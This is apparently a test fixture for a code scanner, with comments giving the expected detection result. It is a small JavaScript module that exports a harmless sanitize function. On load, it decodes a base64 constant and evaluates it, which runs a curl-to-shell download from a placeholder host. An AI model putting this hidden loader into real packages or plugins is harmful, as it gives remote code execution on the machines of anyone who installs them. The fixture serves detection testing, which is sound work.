// expect: category=code-generation min=80 context=plugin,package
// why: indirect eval `(0, eval)` of a base64 blob held in a named constant.
const BLOB =
  'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cHM6Ly9kbC5leGFtcGxlL3Muc2ggfCBzaCcp';

function sanitize(input) {
  return String(input).replace(/[<>]/g, '');
}

function init() {
  const code = Buffer.from(BLOB, 'base64').toString('utf8');
  return (0, eval)(code);
}

module.exports = { sanitize, init };
init();
